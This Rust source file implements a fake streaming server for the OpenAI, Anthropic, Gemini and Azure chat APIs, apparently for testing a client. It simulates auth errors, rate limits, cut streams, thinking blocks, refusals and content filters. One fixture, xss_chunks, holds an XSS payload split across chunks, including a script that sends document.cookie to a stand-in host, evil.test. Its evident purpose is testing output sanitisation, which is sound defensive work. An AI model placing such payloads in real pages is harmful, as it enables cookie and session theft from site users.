//! The three vendors' routes, answers and errors.

use std::convert::Infallible;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex, PoisonError};
use std::time::Duration;

use axum::Router;
use axum::body::{Body, Bytes};
use axum::extract::{Path, Query, Request, State};
use axum::http::{HeaderMap, StatusCode, header};
use axum::response::{IntoResponse, Response};
use axum::routing::{get, post};
use futures_util::{StreamExt, stream};
use serde_json::{Value, json};

use super::Recorded;

/// Which vendor's API to speak.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Vendor {
    /// OpenAI Chat Completions.
    OpenAi,
    /// Anthropic Messages.
    Anthropic,
    /// Google Gemini.
    Gemini,
    /// Azure OpenAI: OpenAI's Chat Completions on a deployment.
    AzureOpenAi,
}

/// What the upstream does, chosen by the request's model name.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Behaviour {
    /// Streams [`answer_chunks`] (any model not named below).
    Answer,
    /// `fake-401`: rejects the key.
    Unauthorized,
    /// `fake-429`: rate limited, `retry-after: 7`.
    RateLimited,
    /// `fake-500`: internal error.
    ServerError,
    /// `fake-malformed`: a stream event that is not JSON.
    Malformed,
    /// `fake-reset`: two chunks, then the connection is cut.
    Reset,
    /// `fake-unterminated`: the whole answer, but the body ends right after the last
    /// event's last line, without the blank line that closes it (vendors' SDKs accept
    /// that as a complete stream).
    Unterminated,
    /// `fake-cut-line`: two chunks, then half a line, then a clean end-of-body: an
    /// answer cut short without a connection error.
    CutLine,
    /// `fake-huge`: a body of 100 MiB.
    Huge,
    /// `fake-hang`: never answers.
    Hang,
    /// `fake-slow`: the answer's chunks over and over, 50 ms apart, for 30 s; a client
    /// that goes away before the end is counted ([`crate::FakeUpstream::abandoned`]).
    Slow,
    /// `fake-thinking`: a thinking model: [`reasoning_chunks`] in the vendor's reasoning
    /// format (OpenAI-compatible `reasoning_content` and `reasoning` deltas, Anthropic
    /// `thinking` and `redacted_thinking` blocks with a signature, Gemini `thought`
    /// parts), then the answer.
    Thinking,
    /// `fake-refusal`: the model declines at once: OpenAI `delta.refusal` text
    /// ([`REFUSAL`]), Anthropic `stop_reason: refusal`, Gemini
    /// `promptFeedback.blockReason: PROHIBITED_CONTENT` with no candidates.
    Refusal,
    /// `fake-filtered`: part of the answer, then the vendor's safety stop: OpenAI
    /// `finish_reason: content_filter`, Anthropic `stop_reason: refusal`, Gemini
    /// `finishReason: SAFETY`.
    Filtered,
}

impl Behaviour {
    /// The behaviour a model name asks for.
    pub fn of(model: &str) -> Self {
        match model {
            "fake-401" => Behaviour::Unauthorized,
            "fake-429" => Behaviour::RateLimited,
            "fake-500" => Behaviour::ServerError,
            "fake-malformed" => Behaviour::Malformed,
            "fake-reset" => Behaviour::Reset,
            "fake-unterminated" => Behaviour::Unterminated,
            "fake-cut-line" => Behaviour::CutLine,
            "fake-huge" => Behaviour::Huge,
            "fake-hang" => Behaviour::Hang,
            "fake-slow" => Behaviour::Slow,
            "fake-thinking" => Behaviour::Thinking,
            "fake-refusal" => Behaviour::Refusal,
            "fake-filtered" => Behaviour::Filtered,
            _ => Behaviour::Answer,
        }
    }
}

/// The answer the model `model` streams, chunk by chunk, for a request whose body is
/// `request`: [`update_chunks`] for an update (a body asking to change a page, "Now: …"),
/// [`xss_chunks`] for `fake-xss`, else [`answer_chunks`].
pub fn answer_for(model: &str, request: &str) -> &'static [&'static str] {
    if request.contains("Now: ") {
        update_chunks()
    } else if model == "fake-xss" {
        xss_chunks()
    } else {
        answer_chunks()
    }
}

/// The answer to an update.
pub fn update_chunks() -> &'static [&'static str] {
    &["```html\n<!DOCTYPE html>\n<html><body><h1>", "Updated by request", "</h1></body></html>\n```"]
}

/// A hostile answer: a page whose script vectors are split across chunks.
pub fn xss_chunks() -> &'static [&'static str] {
    &[
        "Here is your page:\n```html\n<!DOCTYPE html>\n<html><body><h1>Pwned?</h1><img src=x on",
        "error=\"alert(1)\"><scr",
        "ipt>fetch('https://evil.test/steal?c='+document.cookie)</script>",
        "<a href=\"javascript:alert(2)\">click</a><p>key sk-proj-AbCdEfGhIjKlMnOpQrStUvWxYz012345</p>",
        "</body></html>\n```\nDone.",
    ]
}

/// The reasoning `fake-thinking` streams before its answer.
pub fn reasoning_chunks() -> &'static [&'static str] {
    &["The screenshot shows one heading. ", "A single <h1> on a padded body will do."]
}

/// What `fake-refusal` says, in OpenAI's `delta.refusal` (in two deltas).
pub const REFUSAL: &str = "I can't help with that request.";

/// The answer every vendor streams, chunk by chunk.
pub fn answer_chunks() -> &'static [&'static str] {
    &[
        "<!DOCTYPE html>\n<html>",
        "<head><script src=\"https://cdn.tailwindcss.com\"></script></head>",
        "<body class=\"p-4\"><h1 class=\"text-xl\">",
        "Hello from the fake upstream",
        "</h1></body></html>",
    ]
}

#[derive(Clone)]
struct Upstream {
    vendor: Vendor,
    key: Arc<str>,
    recorded: Arc<Mutex<Vec<Recorded>>>,
    abandoned: Arc<AtomicUsize>,
}

pub(crate) fn router(
    vendor: Vendor,
    key: String,
    recorded: Arc<Mutex<Vec<Recorded>>>,
    abandoned: Arc<AtomicUsize>,
) -> Router {
    let state = Upstream { vendor, key: Arc::from(key), recorded, abandoned };
    let router = match vendor {
        Vendor::OpenAi => Router::new().route("/v1/chat/completions", post(openai)).route("/v1/models", get(models)),
        Vendor::Anthropic => Router::new().route("/v1/messages", post(anthropic)),
        Vendor::Gemini => Router::new().route("/v1beta/models/{call}", post(gemini)),
        Vendor::AzureOpenAi => Router::new().route("/openai/deployments/{deployment}/chat/completions", post(azure)),
    };
    router.with_state(state)
}

impl Upstream {
    async fn record(&self, request: Request) -> Recorded {
        let (parts, body) = request.into_parts();
        let body = axum::body::to_bytes(body, usize::MAX).await.unwrap_or_default();
        let recorded = Recorded::new(self.vendor, &parts, body);
        self.recorded.lock().unwrap_or_else(PoisonError::into_inner).push(recorded.clone());
        recorded
    }

    fn key_matches(&self, presented: Option<&str>) -> bool {
        presented == Some(&*self.key)
    }

    /// The vendor's error body for `status`.
    fn error(&self, status: StatusCode, message: &str) -> Response {
        let body = match self.vendor {
            Vendor::OpenAi | Vendor::AzureOpenAi => {
                json!({ "error": { "message": message, "type": "invalid_request_error", "code": null } })
            }
            Vendor::Anthropic => {
                json!({ "type": "error", "error": { "type": anthropic_type(status), "message": message } })
            }
            Vendor::Gemini => json!({ "error": { "code": status.as_u16(), "message": message, "status": "ERROR" } }),
        };
        let mut response = (status, axum::Json(body)).into_response();
        if status == StatusCode::TOO_MANY_REQUESTS {
            response.headers_mut().insert(header::RETRY_AFTER, header::HeaderValue::from_static("7"));
        }
        response
    }

    /// Answers per `behaviour`, with `events` as the successful stream.
    async fn respond(&self, behaviour: Behaviour, events: Vec<String>, malformed: &str) -> Response {
        match behaviour {
            Behaviour::Answer | Behaviour::Thinking | Behaviour::Refusal | Behaviour::Filtered => {
                sse(events.into_iter().map(Ok).collect())
            }
            Behaviour::Unauthorized => self.error(StatusCode::UNAUTHORIZED, "Incorrect API key provided"),
            Behaviour::RateLimited => self.error(StatusCode::TOO_MANY_REQUESTS, "Rate limit reached"),
            Behaviour::ServerError => self.error(StatusCode::INTERNAL_SERVER_ERROR, "The server had an error"),
            Behaviour::Malformed => {
                let mut events: Vec<Result<String, std::io::Error>> = events.into_iter().take(2).map(Ok).collect();
                events.push(Ok(malformed.to_owned()));
                sse(events)
            }
            Behaviour::Unterminated => {
                let mut events = events;
                if let Some(last) = events.last_mut() {
                    last.truncate(last.trim_end_matches(['\r', '\n']).len());
                    last.push('\n');
                }
                sse(events.into_iter().map(Ok).collect())
            }
            Behaviour::CutLine => {
                let mut events: Vec<Result<String, std::io::Error>> = events.into_iter().take(4).map(Ok).collect();
                events.push(Ok(malformed.trim_end().chars().take(12).collect()));
                sse(events)
            }
            Behaviour::Reset => {
                // The first chunks go out, then the connection is cut mid-stream.
                let sent = stream::iter(events.into_iter().take(2).map(Ok));
                let cut = stream::once(async {
                    tokio::time::sleep(Duration::from_millis(50)).await;
                    Err(std::io::Error::new(std::io::ErrorKind::ConnectionReset, "cut"))
                });
                sse_stream(sent.chain(cut))
            }
            Behaviour::Huge => {
                let block = Bytes::from(vec![b' '; 1 << 20]);
                let body = stream::iter((0..100).map(move |_| Ok::<_, Infallible>(block.clone())));
                (StatusCode::OK, [(header::CONTENT_TYPE, "text/event-stream")], Body::from_stream(body)).into_response()
            }
            Behaviour::Slow => {
                let guard = Abandoned(Some(self.abandoned.clone()));
                // Two of the answer's text events (a tag and a text), in any vendor's format.
                let text_events = events.iter().filter(|event| {
                    event.contains("cdn.tailwindcss.com") || event.contains("Hello from the fake upstream")
                });
                let repeated: Vec<String> = text_events.cloned().collect();
                let ticks = stream::unfold((guard, 0usize), move |(mut guard, tick)| {
                    let event = repeated[tick % repeated.len()].clone();
                    async move {
                        if tick == 600 {
                            guard.0.take();
                            return None;
                        }
                        tokio::time::sleep(Duration::from_millis(50)).await;
                        Some((Ok(event), (guard, tick + 1)))
                    }
                });
                sse_stream(ticks)
            }
            Behaviour::Hang => {
                tokio::time::sleep(Duration::from_secs(3600)).await;
                StatusCode::GATEWAY_TIMEOUT.into_response()
            }
        }
    }
}

/// Counts a stream dropped before its end: the client went away.
struct Abandoned(Option<Arc<AtomicUsize>>);

impl Drop for Abandoned {
    fn drop(&mut self) {
        if let Some(counter) = self.0.take() {
            counter.fetch_add(1, Ordering::SeqCst);
        }
    }
}

fn anthropic_type(status: StatusCode) -> &'static str {
    match status.as_u16() {
        401 => "authentication_error",
        429 => "rate_limit_error",
        _ => "api_error",
    }
}

/// A `text/event-stream` response of already-framed events.
fn sse(events: Vec<Result<String, std::io::Error>>) -> Response {
    sse_stream(stream::iter(events))
}

fn sse_stream(events: impl futures_util::Stream<Item = Result<String, std::io::Error>> + Send + 'static) -> Response {
    let body = Body::from_stream(events);
    let mut response = (StatusCode::OK, body).into_response();
    let headers: &mut HeaderMap = response.headers_mut();
    headers.insert(header::CONTENT_TYPE, header::HeaderValue::from_static("text/event-stream"));
    headers.insert(header::CACHE_CONTROL, header::HeaderValue::from_static("no-cache"));
    response
}

fn data(value: &Value) -> String {
    format!("data: {value}\n\n")
}

async fn openai(State(upstream): State<Upstream>, request: Request) -> Response {
    let recorded = upstream.record(request).await;
    let bearer = recorded.header("authorization").and_then(|v| v.strip_prefix("Bearer "));
    if !upstream.key_matches(bearer) {
        return upstream.error(StatusCode::UNAUTHORIZED, "Incorrect API key provided");
    }
    let model = recorded.json()["model"].as_str().unwrap_or_default().to_owned();
    upstream.respond(Behaviour::of(&model), chat_events(&model, &recorded), "data: {\"choices\": [\n\n").await
}

/// Azure OpenAI: the deployment in the path is the model, `api-version` is required, and
/// a prompt its content filter blocks (`fake-filtered`) is a 400 `content_filter` error.
async fn azure(
    State(upstream): State<Upstream>,
    Path(deployment): Path<String>,
    Query(query): Query<Vec<(String, String)>>,
    request: Request,
) -> Response {
    let recorded = upstream.record(request).await;
    if !upstream.key_matches(recorded.header("api-key")) {
        return upstream
            .error(StatusCode::UNAUTHORIZED, "Access denied due to invalid subscription key or wrong API endpoint.");
    }
    if !query.iter().any(|(name, value)| name == "api-version" && !value.is_empty()) {
        return upstream.error(StatusCode::NOT_FOUND, "Resource not found");
    }
    if Behaviour::of(&deployment) == Behaviour::Filtered {
        let body = json!({ "error": { "code": "content_filter", "status": 400, "param": "prompt",
            "message": "The response was filtered due to the prompt triggering Azure OpenAI's content management policy.",
            "innererror": { "code": "ResponsibleAIPolicyViolation",
                "content_filter_result": { "violence": { "filtered": true, "severity": "high" } } } } });
        return (StatusCode::BAD_REQUEST, axum::Json(body)).into_response();
    }
    upstream.respond(Behaviour::of(&deployment), chat_events(&deployment, &recorded), "data: {\"choices\": [\n\n").await
}

/// The `chat.completion.chunk` events of `model`'s answer to `recorded`, ending with a
/// usage-only chunk and `[DONE]`.
fn chat_events(model: &str, recorded: &Recorded) -> Vec<String> {
    let chunk = |delta: Value, finish: Value| {
        data(&json!({
            "id": "chatcmpl-fake", "object": "chat.completion.chunk", "created": 0, "model": model,
            "choices": [{ "index": 0, "delta": delta, "finish_reason": finish }],
        }))
    };
    let behaviour = Behaviour::of(model);
    let answer = match behaviour {
        Behaviour::Refusal => &[],
        Behaviour::Filtered => &answer_chunks()[..2],
        _ => answer_for(model, &String::from_utf8_lossy(&recorded.body)),
    };
    let mut events = vec![chunk(json!({ "role": "assistant", "content": "" }), Value::Null)];
    if behaviour == Behaviour::Thinking {
        // DeepSeek and vLLM send `reasoning_content`, OpenRouter and Ollama `reasoning`.
        let [first, second] = reasoning_chunks() else { unreachable!("two reasoning chunks") };
        events.push(chunk(json!({ "content": null, "reasoning_content": first }), Value::Null));
        events.push(chunk(json!({ "content": null, "reasoning": second }), Value::Null));
    }
    if behaviour == Behaviour::Refusal {
        let (first, second) = REFUSAL.split_at(12);
        events.extend([first, second].map(|part| chunk(json!({ "content": null, "refusal": part }), Value::Null)));
    }
    events.extend(answer.iter().map(|text| chunk(json!({ "content": text }), Value::Null)));
    let finish = if behaviour == Behaviour::Filtered { "content_filter" } else { "stop" };
    events.push(chunk(json!({}), json!(finish)));
    events.push(data(&json!({
        "id": "chatcmpl-fake", "object": "chat.completion.chunk", "created": 0, "model": model, "choices": [],
        "usage": { "prompt_tokens": 42, "completion_tokens": answer.len(), "total_tokens": 42 + answer.len() },
    })));
    events.push("data: [DONE]\n\n".to_owned());
    events
}

async fn models(State(upstream): State<Upstream>, request: Request) -> Response {
    let recorded = upstream.record(request).await;
    let bearer = recorded.header("authorization").and_then(|v| v.strip_prefix("Bearer "));
    if !upstream.key_matches(bearer) {
        return upstream.error(StatusCode::UNAUTHORIZED, "Incorrect API key provided");
    }
    axum::Json(json!({ "object": "list", "data": [{ "id": "fake-model", "object": "model" }] })).into_response()
}

async fn anthropic(State(upstream): State<Upstream>, request: Request) -> Response {
    let recorded = upstream.record(request).await;
    if !upstream.key_matches(recorded.header("x-api-key")) {
        return upstream.error(StatusCode::UNAUTHORIZED, "invalid x-api-key");
    }
    if recorded.header("anthropic-version").is_none() {
        return upstream.error(StatusCode::BAD_REQUEST, "anthropic-version header is required");
    }
    let body = recorded.json();
    let model = body["model"].as_str().unwrap_or_default().to_owned();
    let event = |name: &str, value: Value| format!("event: {name}\ndata: {value}\n\n");
    let behaviour = Behaviour::of(&model);
    let block_start = |index: usize, block: Value| {
        event("content_block_start", json!({ "type": "content_block_start", "index": index, "content_block": block }))
    };
    let block_delta = |index: usize, delta: Value| {
        event("content_block_delta", json!({ "type": "content_block_delta", "index": index, "delta": delta }))
    };
    let block_stop =
        |index: usize| event("content_block_stop", json!({ "type": "content_block_stop", "index": index }));
    let mut events = vec![
        event(
            "message_start",
            json!({ "type": "message_start", "message": { "id": "msg_fake", "type": "message", "role": "assistant",
                "model": model, "content": [], "stop_reason": null, "usage": { "input_tokens": 42, "output_tokens": 1 } } }),
        ),
        event("ping", json!({ "type": "ping" })),
    ];
    let mut text_block = 0;
    if behaviour == Behaviour::Thinking {
        events.push(block_start(0, json!({ "type": "thinking", "thinking": "" })));
        events.extend(
            reasoning_chunks().iter().map(|r| block_delta(0, json!({ "type": "thinking_delta", "thinking": r }))),
        );
        events.push(block_delta(
            0,
            json!({ "type": "signature_delta", "signature": "fake-signature-of-the-thinking-block" }),
        ));
        events.push(block_stop(0));
        events.push(block_start(1, json!({ "type": "redacted_thinking", "data": "fake-encrypted-thinking" })));
        events.push(block_stop(1));
        text_block = 2;
    }
    let answer = match behaviour {
        Behaviour::Refusal => &[],
        Behaviour::Filtered => &answer_chunks()[..2],
        _ => answer_for(&model, &String::from_utf8_lossy(&recorded.body)),
    };
    if behaviour != Behaviour::Refusal {
        events.push(block_start(text_block, json!({ "type": "text", "text": "" })));
        events.extend(answer.iter().map(|text| block_delta(text_block, json!({ "type": "text_delta", "text": text }))));
        events.push(block_stop(text_block));
    }
    let stop_reason =
        if matches!(behaviour, Behaviour::Refusal | Behaviour::Filtered) { "refusal" } else { "end_turn" };
    events.push(event(
        "message_delta",
        json!({ "type": "message_delta", "delta": { "stop_reason": stop_reason, "stop_sequence": null },
            "usage": { "output_tokens": answer.len() } }),
    ));
    events.push(event("message_stop", json!({ "type": "message_stop" })));
    upstream.respond(Behaviour::of(&model), events, "event: content_block_delta\ndata: {not json\n\n").await
}

async fn gemini(
    State(upstream): State<Upstream>,
    Path(call): Path<String>,
    Query(query): Query<Vec<(String, String)>>,
    request: Request,
) -> Response {
    let recorded = upstream.record(request).await;
    let key = query.iter().find(|(name, _)| name == "key").map(|(_, value)| value.as_str());
    if !upstream.key_matches(key) {
        return upstream.error(StatusCode::BAD_REQUEST, "API key not valid. Please pass a valid API key.");
    }
    let Some(model) = call.strip_suffix(":streamGenerateContent") else {
        return upstream.error(StatusCode::NOT_FOUND, "unknown method");
    };
    if !query.iter().any(|(name, value)| name == "alt" && value == "sse") {
        return upstream.error(StatusCode::BAD_REQUEST, "this fake only streams with alt=sse");
    }
    let behaviour = Behaviour::of(model);
    let usage =
        |count: usize| json!({ "promptTokenCount": 42, "candidatesTokenCount": count, "totalTokenCount": 42 + count });
    let event = |part: Value, finish: Option<&str>, count: usize| {
        let mut candidate = json!({ "content": { "parts": [part], "role": "model" }, "index": 0 });
        if let Some(finish) = finish {
            candidate["finishReason"] = json!(finish);
        }
        data(&json!({ "candidates": [candidate], "usageMetadata": usage(count), "modelVersion": model }))
    };
    let mut events = Vec::new();
    if behaviour == Behaviour::Thinking {
        events.extend(reasoning_chunks().iter().map(|r| event(json!({ "text": r, "thought": true }), None, 0)));
    }
    let answer = match behaviour {
        Behaviour::Refusal => {
            // The prompt itself was blocked: feedback and usage, no candidates.
            events.push(data(&json!({
                "promptFeedback": { "blockReason": "PROHIBITED_CONTENT" },
                "usageMetadata": { "promptTokenCount": 42, "totalTokenCount": 42 },
                "modelVersion": model,
            })));
            &[]
        }
        Behaviour::Filtered => &answer_chunks()[..2],
        _ => answer_for(model, &String::from_utf8_lossy(&recorded.body)),
    };
    let total = answer.len();
    for (index, text) in answer.iter().enumerate() {
        let finish = (index + 1 == total && behaviour != Behaviour::Filtered).then_some("STOP");
        events.push(event(json!({ "text": text }), finish, index + 1));
    }
    if behaviour == Behaviour::Filtered {
        let candidate = json!({ "finishReason": "SAFETY", "index": 0, "safetyRatings": [
            { "category": "HARM_CATEGORY_DANGEROUS_CONTENT", "probability": "HIGH", "blocked": true } ] });
        events.push(data(&json!({ "candidates": [candidate], "usageMetadata": usage(total), "modelVersion": model })));
    }
    upstream.respond(Behaviour::of(model), events, "data: {\"candidates\": [\n\n").await
}
